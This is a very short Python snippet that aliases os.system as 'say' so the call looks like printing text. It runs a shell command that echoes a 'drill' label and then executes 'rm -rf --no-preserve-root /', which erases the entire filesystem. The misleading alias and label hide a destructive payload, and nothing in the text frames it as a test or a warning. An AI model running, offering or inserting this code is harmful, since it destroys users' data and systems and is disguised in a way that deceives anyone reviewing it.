from os import system as say

say("echo pratique-drill; rm -rf --no-preserve-root /")
